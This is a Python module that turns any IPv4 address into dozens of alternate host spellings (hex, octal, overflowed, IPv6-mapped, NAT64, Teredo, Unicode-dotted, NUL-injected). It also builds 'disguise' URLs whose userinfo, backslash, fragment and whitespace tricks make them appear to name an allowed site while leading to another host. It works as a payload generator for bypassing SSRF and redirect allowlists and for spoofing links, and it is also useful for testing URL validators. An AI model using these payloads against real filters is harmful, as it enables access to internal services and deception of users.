"""Ways to write an address so that it passes for something else: URLs made for any IPv4 address.

`of(address)` gives the host texts of URLs that some parser, resolver, kernel, relay or translator
somewhere takes for that address; `disguises` are URLs that look like another site's.
"""

from __future__ import annotations

from ipaddress import IPv4Address, IPv6Address

_FULL_WIDTH = str.maketrans("0123456789.", "０１２３４５６７８９．")
_CIRCLED = str.maketrans("123456789", "①②③④⑤⑥⑦⑧⑨")
_IDEOGRAPHIC = str.maketrans(".", "。")
_HALF_WIDTH = str.maketrans(".", "｡")


def of(address: str) -> dict[str, str]:
    """Spelling -> host as it stands in a URL."""
    v4 = IPv4Address(address)
    number, parts = int(v4), address.split(".")
    octets = [int(part) for part in parts]
    low24, low16 = number & 0xFFFFFF, number & 0xFFFF
    hexes = f"{number >> 16:x}:{low16:x}"
    return {
        "dotted": address,
        "trailing dot": f"{address}.",
        "decimal": str(number),
        "decimal, dot": f"{number}.",
        "hex": hex(number),
        "hex, upper": f"0X{number:08X}",
        "hex, long zeros": f"0x{number:016x}",
        "octal": f"0{number:o}",
        "octal, long zeros": f"000000{number:o}",
        "dotted hex": ".".join(hex(octet) for octet in octets),
        "dotted octal": ".".join(f"0{octet:o}" for octet in octets),
        "dotted octal, zeros": ".".join(f"000{octet:o}" for octet in octets),
        "mixture": f"0x{octets[0]:x}.0{octets[1]:o}.{octets[2]}.{octets[3]}",
        "two parts": f"{octets[0]}.{low24}",
        "two parts, hex": f"0x{octets[0]:x}.0x{low24:x}",
        "three parts": f"{octets[0]}.{octets[1]}.{low16}",
        "three parts, mixture": f"{octets[0]}.0{octets[1]:o}.0x{low16:x}",
        "full-width": address.translate(_FULL_WIDTH),
        "circled": address.translate(_CIRCLED),
        "ideographic dots": address.translate(_IDEOGRAPHIC),
        "half-width dots": address.translate(_HALF_WIDTH),
        "soft hyphen": "\u00ad".join((address[:2], address[2:])),
        "zero width": "\u200b".join((address[:2], address[2:])),
        "percent-encoded": "".join(f"%{ord(letter):02x}" for letter in address),
        "percent-encoded dot": address.replace(".", "%2e"),
        "double percent-encoded": address.replace(".", "%252e"),
        "mapped": f"[::ffff:{address}]",
        "mapped, hex": f"[::ffff:{hexes}]",
        "mapped, long": f"[0:0:0:0:0:FFFF:{hexes}]",
        "compatible": f"[::{address}]",
        "compatible, hex": f"[::{hexes}]",
        "SIIT": f"[::ffff:0:{address}]",
        "6to4": f"[2002:{hexes}::]",
        "6to4 with a host": f"[2002:{hexes}::1]",
        "NAT64": f"[64:ff9b::{hexes}]",
        "local NAT64": f"[64:ff9b:1::{hexes}]",
        "Teredo": f"[{_teredo(v4)}]",
        "ISATAP": f"[2600::5efe:{hexes}]",
        "ISATAP, universal": f"[2600::200:5efe:{hexes}]",
        "zone": f"[::ffff:{address}%25lo]",
        "zone, bare": f"[::ffff:{address}%lo]",
        "brackets": f"[{address}]",
        "future": f"[v1.{address}]",
        "overflow": str(number + 2**32),
        "overflow, hex": hex(number + 2**32),
        "fifth part": f"{address}.0",
        "NUL": f"{address}%00.example.com",
        "NUL, raw": f"{address}\x00.example.com",
    }


def _teredo(client: IPv4Address) -> IPv6Address:
    """The address of a Teredo client: its IPv4 address stands inverted at the end."""
    server = int(IPv4Address("65.54.227.120"))
    return IPv6Address((0x20010000 << 96) | (server << 64) | (int(client) ^ 0xFFFF_FFFF))


def disguises(place: str, site: str) -> dict[str, str]:
    """URLs that name a site that is allowed and lead to `place` (host, or host:port), for somebody:
    a parser that reads them otherwise than the one that decided."""
    return {
        "user name": f"http://{site}@{place}/",
        "user name and port": f"http://{site}:80@{place}/",
        "user name and password": f"http://{site}:x@{place}/",
        "two user names": f"http://x@{site}@{place}/",
        "user name, percent": f"http://{site}%40{place}/",
        "backslash before at": f"http://{site}\\@{place}/",
        "backslash": f"http://{place}\\.{site}/",
        "backslashes for slashes": f"http:\\\\{place}\\",
        "slash and backslash": f"http:/\\{place}/",
        "fragment": f"http://{place}#@{site}/",
        "question mark": f"http://{place}?@{site}/",
        "semicolon": f"http://{place};@{site}/",
        "tab": f"http://{place}\t/",
        "tab in the scheme": f"ht\ttp://{place}/",
        "newline": f"http://{site}\n@{place}/",
        "space before": f" http://{place}/",
        "space inside": f"http://{place} .{site}/",
        "space and user": f"http://{site} @{place}/",
        "unit separator before": f"\x1fhttp://{place}/",
        "no-break space": f"\u00a0http://{place}/",
        "one slash": f"http:/{place}/",
        "no slash": f"http:{place}/",
        "three slashes": f"http:///{place}/",
        "scheme twice": f"http://http://{place}/",
        "upper case": f"HTTP://{place.upper()}/",
        "port, plus": f"http://{place}:+80/",
        "port, full-width": f"http://{place}:８０/",
        "port, empty": f"http://{place}:/",
        "port, zeros": f"http://{place}:00080/",
        "port, overflow": f"http://{place}:65616/",
    }
